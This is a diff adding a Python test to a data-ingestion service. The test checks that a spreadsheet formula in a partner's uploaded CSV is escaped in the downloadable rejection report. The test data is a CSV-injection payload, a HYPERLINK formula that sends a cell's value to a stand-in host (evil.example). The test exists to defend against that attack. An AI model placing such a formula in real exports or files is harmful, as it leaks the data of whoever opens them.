@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 import os
 from pathlib import Path
@@ -155,3 +157,19 @@ def test_a_folder_is_archived_as_a_reproducible_zip_and_loaded(tmp_path):
         assert sorted(zipped.namelist()) == sorted(p.name for p in folder.iterdir())
         assert zipped.read("Client.csv") == (folder / "Client.csv").read_bytes()
     assert services.ingest(folder, coalition, "hmis", "2026-Q3").duplicate
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+
+
+def test_a_formula_in_the_file_reaches_the_report_csv_as_text(tmp_path, state_ui):
+    """A partner's cell that a spreadsheet would run is quoted in the downloadable report, and
+    the page and API (which read the report back) still show it as sent."""
+    bad = write_csv(tmp_path / "bad.csv", WAGE_HEADER, [["123456789", "E1", 2024, 1, FORMULA]])
+    submission = services.ingest(bad, state_ui, "ui_wages", "2024-Q1").submission
+    assert submission.status == "rejected"
+    text = services.report_file(submission).read_text(encoding="utf-8")
+    [header, row] = list(csv.reader(io.StringIO(text)))
+    assert row[header.index("value")] == "'" + FORMULA
+    assert row[header.index("row")] == "2"
+    assert services.read_report(submission)[0]["value"] == FORMULA
